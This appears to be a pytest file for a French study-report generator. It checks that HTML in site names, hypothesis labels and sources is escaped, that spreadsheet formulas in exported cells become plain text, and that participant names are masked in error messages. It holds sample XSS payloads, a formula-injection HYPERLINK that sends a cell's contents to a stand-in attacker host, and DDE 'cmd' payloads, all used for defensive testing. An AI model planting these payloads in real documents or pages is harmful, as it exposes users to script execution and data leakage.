"""The report under attack: HTML in the study's text, formulas in table cells, names in error messages.

Issue 13: text from the study (a site name, a topic, a hypothesis label) or from a source
must be shown, never run, in the pages and in the print edition; a table cell written as a
spreadsheet formula must reach the XLSX and CSV files as text; a participant name quoted in
a report's error message must be masked there.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from fixtures.report import batch as fx  # tests/ is on sys.path (pytest's rootdir-less import)

from odas_analysis import cli, study
from odas_analysis.publication import ReportError
from odas_analysis.tables.formats import neutralise as neutral_cell

SCRIPT = '<script>alert("site")</script>'
IMAGE = "<img src=x onerror=alert(2)>"
LABEL = "<b onmouseover=alert(3)>Convergence</b>"
FORMULA = '=HYPERLINK("https://attaquant.invalid/?v="&A1,"Cliquez")'


class _Active(HTMLParser):
    """Elements and attributes that would run: ``<script>``, ``on*`` handlers, ``src=x``."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.found.append("<script>")
        for name, value in attrs:
            if name.startswith("on") or (name == "src" and value == "x"):
                self.found.append(f"<{tag} {name}={value}>")


def _active_html(html: str) -> list[str]:
    """What an attacker's text would have created in the page, as the browser parses it."""
    parser = _Active()
    parser.feed(html)
    return parser.found


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """The fixture report built with HTML in Angers' name and topic and in H1's label."""
    base = tmp_path_factory.mktemp("injection")
    root = fx.copy_batch(base / "batch")
    real_sites, real_hypotheses = study.sites, study.hypotheses

    def sites():
        frame = real_sites().copy()
        angers = frame["site_id"] == "angers"
        frame.loc[angers, "name"] = "Angers " + SCRIPT
        frame.loc[angers, "topic"] = "Réciprocité " + IMAGE
        return frame

    def hypotheses():
        frame = real_hypotheses().copy()
        frame.loc[frame["hypothesis_id"] == "H1", "label"] = LABEL
        return frame

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(study, "sites", sites)
        mp.setattr(study, "hypotheses", hypotheses)
        result = fx.build(root, base / "out")
    return result


def test_html_in_the_study_text_is_inert_in_the_site_appendix(injected):
    html = (injected.out / "annexe-site-angers.html").read_text(encoding="utf-8")
    assert not _active_html(html)
    assert "&lt;script&gt;alert(&#34;site&#34;)&lt;/script&gt;" in html or "&lt;script&gt;alert(&quot;" in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html  # the topic, shown as text
    # the name reaches the page title, the heading and the figure caption as text too
    assert "<title>Annexe A — Angers &lt;script&gt;" in html
    assert '<span class="numero">Figure A.1</span> — Angers &lt;script&gt;' in html


def test_html_in_the_study_text_is_inert_in_the_print_edition(injected):
    html = (injected.out / "rapport-complet.html").read_text(encoding="utf-8")
    assert not _active_html(html)
    assert "&lt;b onmouseover=alert(3)&gt;Convergence&lt;/b&gt;" in html  # the hypothesis label
    assert "Angers &lt;script&gt;" in html
    for page in ("index.html", "02-comparaison.html"):
        assert not _active_html((injected.out / page).read_text(encoding="utf-8")), page


def test_raw_html_in_a_source_is_shown_as_text(tmp_path):
    import shutil

    sources = tmp_path / "sources"
    shutil.copytree(fx.SOURCES, sources)
    intro = sources / "chapitres/01-introduction.md"
    intro.write_text(
        intro.read_text(encoding="utf-8")
        + "\nUn bloc brut :\n\n<script>alert(4)</script>\n\net <b onmouseover=alert(5)>x</b>.\n",
        encoding="utf-8",
    )
    root, _ = fx.shared_build()
    result = fx.build(root, tmp_path / "out", sources=sources)
    html = (result.out / "01-introduction.html").read_text(encoding="utf-8")
    assert "<script>alert(4)" not in html and "<b onmouseover" not in html
    assert "&lt;script&gt;alert(4)&lt;/script&gt;" in html
    assert '<a href="https://example.org/?q=1">' in html  # autolinks still work


# --------------------------------------------------------------------------- spreadsheets


def test_neutral_cell_prefixes_formulas_and_leaves_numbers():
    assert neutral_cell(FORMULA) == "'" + FORMULA
    for start in ("+", "-", "@", "\t", "\r"):
        assert neutral_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
    for number in ("-0.5", "+3", "-20150.50", "1e-3", "12"):
        assert neutral_cell(number) == number
    assert neutral_cell("") == "" and neutral_cell("Angers") == "Angers"


def test_a_formula_cell_is_text_in_the_xlsx_and_the_csv(tmp_path):
    root = fx.copy_batch(tmp_path / "batch")
    table = root / "tables/synthese/sites.csv"
    meta, _, body = table.read_text(encoding="utf-8").partition("\n")  # the export's "# {source, unites}" line
    frame = pd.read_csv(io.StringIO(body), dtype=str, keep_default_na=False)
    frame.loc[0, "remarque"] = FORMULA
    frame.loc[1, "remarque"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    table.write_bytes((meta + "\n" + frame.to_csv(index=False, lineterminator="\n")).encode("utf-8"))
    result = fx.build(root, tmp_path / "out")

    from openpyxl import load_workbook

    xlsx = result.out / "tables/synthese/sites.xlsx"
    ws = load_workbook(xlsx)["tableau"]
    column = [c.value for c in ws[1]].index("remarque") + 1
    assert ws.cell(row=2, column=column).value == "'" + FORMULA
    assert ws.cell(row=2, column=column).data_type == "s"
    assert ws.cell(row=3, column=column).value.startswith("'@SUM")
    assert ws.cell(row=2, column=3).value == 154508  # numbers stay numbers
    with zipfile.ZipFile(xlsx) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in zf.read(n).decode("utf-8") for n in sheets)  # no formula anywhere

    with open(result.out / "tables/synthese/sites.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(line for line in fh if not line.startswith("# ")))
    assert rows[0]["remarque"] == "'" + FORMULA and rows[1]["remarque"].startswith("'@SUM")
    assert rows[0]["population"] == "154508"
    # exports.csv gives the hash of the file published, which is no longer the export's
    with open(result.out / "exports.csv", newline="", encoding="utf-8") as fh:
        listed = {r["reference"]: r for r in csv.DictReader(fh)}
    import hashlib

    published = (result.out / "tables/synthese/sites.csv").read_bytes()
    assert listed["tables/synthese/sites"]["sha256"] == hashlib.sha256(published).hexdigest()
    # negative numbers in another table are still numbers
    ws = load_workbook(result.out / "tables/site-angers/indicateurs.xlsx")["tableau"]
    assert ws.cell(row=5, column=3).value == pytest.approx(-0.5)


def test_a_formula_in_a_caption_is_text_in_exports_csv(tmp_path):
    import shutil

    sources = tmp_path / "sources"
    shutil.copytree(fx.SOURCES, sources)
    chapter = sources / "chapitres/02-comparaison.md"
    text = chapter.read_text(encoding="utf-8").replace(
        ":caption: Comparaison des sites d'essai", ':caption: =HYPERLINK("https://x.invalid")'
    )
    chapter.write_text(text, encoding="utf-8")
    root, _ = fx.shared_build()
    result = fx.build(root, tmp_path / "out", sources=sources)
    with open(result.out / "exports.csv", newline="", encoding="utf-8") as fh:
        rows = {r["reference"]: r for r in csv.DictReader(fh)}
    assert rows["figures/synthese/comparaison"]["legende"] == '\'=HYPERLINK("https://x.invalid")'


# --------------------------------------------------------------------------- names in errors

NAME = "Dominique Vermandois-Lurette"


def _overlay(tmp_path: Path) -> Path:
    private = tmp_path / "private"
    private.mkdir()
    (private / "participant_names.csv").write_text(f"participant_id,name\nP01,{NAME}\n", encoding="utf-8")
    return private


def test_a_participant_name_in_an_error_is_masked(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("ODAS_PRIVATE_DATA", str(_overlay(tmp_path)))
    root = fx.copy_batch(tmp_path / "batch")
    manifest = json.loads((root / "build/manifest.json").read_text())
    manifest["runs"]["site-angers"].update(status="failed", error=f"Traceback...\nKeyError: '{NAME}'")
    (root / "build/manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(ReportError) as info:
        fx.build(root, tmp_path / "out")
    text = str(info.value)
    assert "site-angers" in text and "KeyError" in text
    assert "Vermandois" not in text and "Lurette" not in text
    assert "D… (28 caractères)" in text
    args = ["report", "--root", str(root), "--sources", str(fx.SOURCES), "--out", str(tmp_path / "cli")]
    args += ["--data-dir", str(fx.DATA), "--site", "angers", "--site", "bordeaux", "--no-pdf"]
    assert cli.main(args) == 2
    err = capsys.readouterr().err
    assert "site-angers" in err and "Vermandois" not in err and "Lurette" not in err


def test_without_an_overlay_messages_are_unchanged(tmp_path, monkeypatch):
    monkeypatch.delenv("ODAS_PRIVATE_DATA", raising=False)
    error = ReportError("problème :", [f"colonne {NAME} inconnue"])
    assert NAME in str(error)
